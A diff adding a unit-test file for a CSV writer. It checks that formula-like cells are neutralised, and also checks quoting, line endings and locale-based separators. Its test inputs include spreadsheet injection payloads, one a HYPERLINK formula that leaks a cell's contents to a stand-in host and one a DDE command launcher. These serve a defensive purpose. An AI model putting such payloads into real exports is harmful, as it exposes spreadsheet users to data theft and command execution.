@@ -1,0 +1,48 @@
+import { csvSeparatorFor, neutraliseCell, writeCsv, writeCsvTable } from './csv-writer.js';
+
+describe('the CSV writer', () => {
+  it.each([
+    ['=HYPERLINK("http://x?d="&A1,"Click")', `'=HYPERLINK("http://x?d="&A1,"Click")`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['+212 6 61 24 87 30', "'+212 6 61 24 87 30"],
+    ['Awa Traoré', 'Awa Traoré'],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ])('neutralises %j as %j', (input, output) => {
+    expect(neutraliseCell(input)).toBe(output);
+  });
+
+  it('leaves numbers the code writes alone, and writes nothing for null', () => {
+    expect(neutraliseCell(-3)).toBe('-3');
+    expect(neutraliseCell(null)).toBe('');
+    expect(neutraliseCell(undefined)).toBe('');
+  });
+
+  it('starts with a BOM, ends lines with CRLF, quotes only what needs it', () => {
+    expect(
+      writeCsv([
+        ['Name', 'Note'],
+        ['Awa', 'a, b "c"'],
+      ]),
+    ).toBe('\uFEFFName,Note\r\nAwa,"a, b ""c"""\r\n');
+  });
+
+  it('writes semicolons for French and Spanish Excel, quoting cells that hold one', () => {
+    expect(
+      writeCsvTable([['Name', (p: string) => p]], ['=1;2', 'Lucía'], { separator: 'semicolon' }),
+    ).toBe('\uFEFFName\r\n"\'=1;2"\r\nLucía\r\n');
+  });
+
+  it("picks the separator from what was asked, else the reader's language", () => {
+    expect(csvSeparatorFor('fr')).toBe('semicolon');
+    expect(csvSeparatorFor('es')).toBe('semicolon');
+    expect(csvSeparatorFor('en')).toBe('comma');
+    expect(csvSeparatorFor('fr', 'comma')).toBe('comma');
+    expect(csvSeparatorFor('en', 'semicolon')).toBe('semicolon');
+    expect(csvSeparatorFor('en', 'tab')).toBe('comma');
+  });
+});
